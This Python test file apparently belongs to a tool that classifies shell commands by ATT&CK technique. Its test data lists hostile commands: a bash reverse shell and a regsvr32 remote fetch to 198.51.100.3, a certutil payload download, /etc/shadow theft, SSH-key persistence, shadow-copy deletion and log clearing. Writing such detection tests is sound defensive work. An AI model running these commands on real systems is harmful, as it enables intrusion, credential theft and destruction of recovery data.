"""Techniques of commands: the right ones first, each with a token of the command; nothing for nothing."""

from __future__ import annotations

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from vedette.commands import judging
from vedette.commands.engine import trace
from vedette.commands.judging.model import TECHNIQUES, judge
from vedette.commands.judging.ranking import act_scores, chances_of, unseen_scores
from vedette.knowledge import attack

SHOWN = [
    ("certutil -urlcache -split -f http://example.com/p.bin C:\\Users\\Public\\p.exe", "T1105"),
    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d C:\\ProgramData\\x.exe /f", "T1547.001"),
    ("schtasks /create /tn Sync /tr C:\\ProgramData\\s.exe /sc onlogon /ru system", "T1053.005"),
    ("vssadmin delete shadows /all /quiet", "T1490"),
    ("wevtutil cl Security", "T1685.005"),
    ("Set-MpPreference -DisableRealtimeMonitoring $true", "T1685"),
    ("regsvr32 /s /n /u /i:http://198.51.100.3/x.sct scrobj.dll", "T1218.010"),
    ("bash -i >& /dev/tcp/198.51.100.3/443 0>&1", "T1059.004"),
    ("cat /etc/shadow > /tmp/.s", "T1003.008"),
    ("echo 'ssh-rsa AAAA me' >> ~/.ssh/authorized_keys", "T1098.004"),
    ("aws cloudtrail stop-logging --name main", "T1685.002"),
    ("kubectl get secrets --all-namespaces -o yaml", "T1552.007"),
]


@pytest.mark.parametrize(("command", "technique"), SHOWN)
def test_technique_is_among_the_first_three(command: str, technique: str) -> None:
    named = [found.id for found in judging.rank(trace(command))]
    assert technique in named[:3]


@pytest.mark.parametrize(("command", "technique"), SHOWN)
def test_each_technique_shows_a_token_of_its_layer(command: str, technique: str) -> None:
    traces = trace(command)
    for found in judging.rank(traces):
        assert found.text in traces.layers[found.layer].text[found.start : found.end]
        assert found.text
        assert found.reason
        assert found.name


def test_confidences_are_probabilities_and_the_most_likely_comes_first() -> None:
    found = judging.rank(trace("wmic shadowcopy delete & bcdedit /set {default} recoveryenabled no"))
    assert 1 <= len(found) <= 5
    assert all(0 <= one.confidence <= 1 for one in found)
    assert found[0].confidence == max(one.confidence for one in found)


def test_renumbered_technique_tells_its_former_number() -> None:
    first = judging.rank(trace("wevtutil cl Security"))[0]
    assert (first.id, first.former_id) == ("T1685.005", "T1070.001")
    assert first.name == "Clear Windows Event Logs"
    assert first.tactics == ("defense-evasion",)


@pytest.mark.parametrize("command", ["", "   \n", "git status", "ls -la", "npm install", "Get-Date"])
def test_plain_commands_show_nothing_much(command: str) -> None:
    assert all(found.confidence < 0.3 for found in judging.rank(trace(command)))


@pytest.mark.parametrize("command", ["git status", "cargo add serde", "npm install", "tar xzf a.tgz"])
def test_command_without_an_act_of_a_technique_names_none(command: str) -> None:
    traces = trace(command)
    assert not any(fired.techniques for fired in traces.fired)
    assert judging.rank(traces) == ()


def test_words_alone_name_a_technique_where_they_say_enough() -> None:
    traces = trace("qwzdumper.exe --dump-creds lsass C:\\Windows\\Temp\\lsass.dmp")
    assert any(found.id.startswith("T1003") for found in judging.rank(traces))


def test_tables_lead_where_the_model_never_saw_the_tool() -> None:
    model = judge(TECHNIQUES)
    traces = trace("vssadmin delete shadows /all /quiet")
    assert unseen_scores(model, traces) == {}
    for fired in traces.fired:
        fired.tool = fired.tool and "a-tool-that-nobody-has"
    led = unseen_scores(model, traces)
    assert led["T1490"] >= 0.8
    acts, scores = act_scores(traces), np.zeros(len(model.labels), dtype=np.float32)
    place = model.places["T1490"]
    assert chances_of(model, scores, acts, led)[place] > chances_of(model, scores, acts, {})[place]


def test_hidden_command_is_judged_by_what_it_hides() -> None:
    shown = judging.rank(trace("v^ssad^min del^ete sha^dows /all /qu^iet"))
    assert shown[0].id == "T1490"


@given(st.text(max_size=300))
@settings(max_examples=60, deadline=None)
def test_no_text_raises(text: str) -> None:
    traces = trace(text)
    for found in judging.rank(traces):
        assert 0 <= found.start <= found.end <= len(traces.layers[found.layer].text)


def test_numbers_of_techniques_go_both_ways() -> None:
    for old, new in attack.RENUMBERED.items():
        assert attack.current(old) == new
        assert attack.current(new) == new
        assert attack.current(attack.former(new) or "") == new
        assert attack.technique(old) is not None
    assert attack.current("T1059.001") == "T1059.001"
    assert attack.former("T1059.001") is None
    assert attack.name_of("T1690") == "Prevent Command History Logging"
    assert attack.name_of("T9999") is None
    assert attack.tactics_served("T1686") == ("defense-evasion",)
    assert attack.tactics_served("T9999") == ()
